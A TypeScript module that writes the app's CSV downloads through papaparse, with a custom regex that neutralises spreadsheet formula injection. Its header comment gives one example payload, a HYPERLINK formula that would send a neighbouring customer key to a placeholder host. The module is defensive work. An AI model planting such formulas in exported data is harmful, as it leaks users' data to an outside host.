/**
 * The one CSV writer for every file the app downloads (segments.csv, SQL results): papaparse's
 * `unparse` with formula neutralisation (RELIABILITY.md T12, OWASP "CSV Injection").
 *
 * A text field that starts with `=`, `+`, `-`, `@`, TAB, CR or LF (or their full-width forms,
 * which some spreadsheets fold) is written as `'` + the field, quoted, so a spreadsheet shows it
 * as text instead of running it: `=HYPERLINK("http://host/?"&A2,"x")` would otherwise build a
 * URL from the neighbouring customer key. Numbers and booleans are written as they are (`-5`
 * stays a number); pass them as numbers, not strings.
 *
 * papaparse's own `escapeFormulae: true` tests `/^[=+\-@\t\r].*$/`, which misses a field with a
 * line break in it (`.` stops at the newline and `$` needs the end): hence our own pattern.
 */
import Papa from 'papaparse';

/** A field starting with one of these would be read as a formula by a spreadsheet. */
export const FORMULA_START = /^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/;

export type CsvValue = string | number | bigint | boolean | null | undefined;

/** RFC 4180 CSV (comma, `"` quoting, `\n` line ends, a final newline), formulas neutralised. */
export function toCsv(header: readonly string[], rows: readonly (readonly CsvValue[])[]): string {
	const text = Papa.unparse(
		{
			fields: [...header],
			// papaparse writes a bigint with toString() and, like a number, never escapes it.
			data: rows as unknown[][]
		},
		{ escapeFormulae: FORMULA_START, newline: '\n', quotes: false, header: true }
	);
	// papaparse ends the header line only when there are no rows, and never the last row.
	return rows.length === 0 ? text : text + '\n';
}
